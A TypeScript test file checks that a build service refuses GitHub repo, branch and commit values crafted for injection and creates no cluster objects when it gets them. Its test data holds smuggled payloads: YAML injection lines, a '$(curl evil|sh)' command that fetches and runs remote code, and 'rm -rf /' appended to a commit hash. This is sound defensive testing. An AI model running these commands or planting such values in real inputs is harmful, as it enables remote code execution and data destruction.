import { expect, it, vi } from 'vitest';
import { getBuildState, sendBuildCommand, startBuild } from '../api/build-client';
import { UnsafeCommitInfoError } from '../common/build';
import { buildWorkflowId } from '../workflows/definitions';
import { logger } from '../common/logger';
import type { CommitInfo } from '../common/types';
import type { buildWorkflow } from '../workflows';
import { useStack } from './api-server';
import { SHA, testConfig, waitFor } from './helpers';

// Repo and branch names come from GitHub, which allows quotes, newlines and `$()` in them.
// Even where the configured patterns let such a name through, it must inject nothing.

const config = testConfig({
  RUNBOAT_REPOS: JSON.stringify([{ repo: '.*', branch: '.*', builds: [{ image: 'odoo:16' }] }]),
});
const stack = useStack(config, { deploymentController: false });
const { cluster } = stack;

const hostile: CommitInfo[] = [
  { repo: 'oca/x"\n  injected: "yes', target_branch: '16.0', pr: null, git_commit: SHA('e') },
  { repo: 'oca/x', target_branch: '16.0\nkind: Secret', pr: null, git_commit: SHA('e') },
  { repo: 'oca/x', target_branch: '$(curl evil|sh)', pr: null, git_commit: SHA('e') },
  { repo: 'oca/x', target_branch: '16.0', pr: null, git_commit: 'abc; rm -rf /' },
];

async function namespaceIsEmpty(): Promise<void> {
  const [configMaps, deployments, jobs] = await Promise.all([
    cluster.core.listNamespacedConfigMap({
      namespace: config.buildNamespace,
      labelSelector: 'runboat/build',
    }),
    cluster.apps.listNamespacedDeployment({ namespace: config.buildNamespace }),
    cluster.batch.listNamespacedJob({ namespace: config.buildNamespace }),
  ]);
  expect([...configMaps.items, ...deployments.items, ...jobs.items]).toEqual([]);
}

it('refuses hostile repo, branch and sha values with a clear log line, creating nothing', async () => {
  const warn = vi.spyOn(logger, 'warn');
  for (const commit of hostile) {
    await expect(startBuild(stack.temporal.client, config, commit)).rejects.toBeInstanceOf(
      UnsafeCommitInfoError,
    );
  }
  expect(warn).toHaveBeenCalledTimes(hostile.length);
  expect(warn.mock.calls[1][0]).toMatchObject({ reason: expect.stringContaining('has characters outside') });
  expect(warn.mock.calls[1][1]).toBe('build refused');
  await namespaceIsEmpty();
});

it('fails a build started with hostile values behind the API, creating nothing', async () => {
  const build = { name: 'hostile', slug: 'hostile', commit: hostile[1] };
  const handle = await stack.temporal.client.workflow.start<typeof buildWorkflow>('buildWorkflow', {
    workflowId: buildWorkflowId('hostile'),
    taskQueue: config.taskQueue,
    args: [{ build, settings: { maxInitializing: 2, initTimeoutSeconds: 60, noCleanupJob: true } }],
  });
  // Not a failed workflow (that would orphan whatever it had created): a failed build, with
  // the reason, that an undeploy still removes.
  const failed = await waitFor('the build failed', async () => {
    const state = await getBuildState(stack.temporal.client, 'hostile');
    return state.status === 'failed' && state;
  });
  expect(failed.last_error).toContain('has characters outside');
  await namespaceIsEmpty();
  await sendBuildCommand(stack.temporal.client, 'hostile', 'undeploy');
  await handle.result();
  await namespaceIsEmpty();
});
